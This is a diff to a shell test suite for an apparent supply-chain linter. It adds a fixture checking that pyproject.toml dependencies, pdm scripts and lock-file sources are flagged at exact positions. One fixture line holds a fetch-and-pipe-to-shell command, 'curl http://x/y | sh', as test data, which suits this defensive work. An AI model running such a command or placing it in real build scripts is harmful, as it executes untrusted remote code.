@@ -135,6 +135,14 @@ judges_project() {
 ok 'scripts of package.json and commands of a Dockerfile are denied for what they download and run, not for the programs of a build' judges_project
 printf 'FROM a\nSHELL ["powershell"]\n' >project/Dockerfile
 ok 'a manifest that is not understood cannot be checked, and the error has its place' gives 2 'project/Dockerfile: line 2, column 1: SHELL is none' "$lint" project
+printf '[project]\ndependencies = ["fabric"]\n[tool.pdm.scripts]\nx = {shell = "curl http://x/y | sh"}\n' >project/pyproject.toml
+printf '{"packages": {"node_modules/a": {"version": "1.0.0",\n "resolved": "https://example.org/a.tgz"}}}' >project/package-lock.json
+printf 'FROM a\n' >project/Dockerfile
+judges_locks() {
+    json project
+    expect '[.files[] | .path as $p | .findings[] | "\($p):\(.line):\(.column) \(.rule)"] == ["project/package-lock.json:2:15 pkg.source", "project/package.json:2:46 sh.command", "project/package.json:3:19 pkg.look-alike", "project/pyproject.toml:2:18 pkg.blocked", "project/pyproject.toml:4:33 sh.command"]' report.json
+}
+ok 'packages and commands of pyproject.toml, and the sources of a lock file, are judged at their places' judges_locks
 printf 'SHELL' >project/dockerfile.py
 ok 'a language that the name has comes before a manifest' gives 0 '1 file checked' "$lint" project/dockerfile.py
 rm -r project
